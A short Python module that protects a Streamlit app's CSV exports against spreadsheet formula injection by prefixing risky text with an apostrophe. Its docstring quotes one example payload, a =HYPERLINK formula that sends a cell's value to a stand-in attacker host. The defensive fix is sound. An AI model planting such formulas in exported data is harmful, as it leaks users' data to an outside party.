"""Tables that leave the app as CSV: text a spreadsheet would run as a formula is made plain text.

A run named `=HYPERLINK("http://evil.example/?leak="&B2,"Open results")` reached the teacher's download as a
live formula, through the app's own CSV and through the download button of Streamlit's table toolbar, which
writes cells as they are. Such a cell gets a leading apostrophe (OWASP's advice for CSV injection); numbers
stay numbers.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as a formula at a cell's start


def safe_text(value: object) -> object:
    """`value` with a leading apostrophe if it is text a spreadsheet would run; anything else unchanged."""
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells, column names and index labels a spreadsheet reads as plain text.

    For every table shown with `st.dataframe` that can hold a user's text, since its toolbar downloads it as CSV.
    """
    safe = frame.map(safe_text)
    safe.columns = [safe_text(column) for column in frame.columns]
    safe.index = pd.Index([safe_text(label) for label in frame.index], name=frame.index.name)
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """The table as CSV, every cell safe to open in a spreadsheet."""
    return spreadsheet_safe(frame).to_csv(index=False)
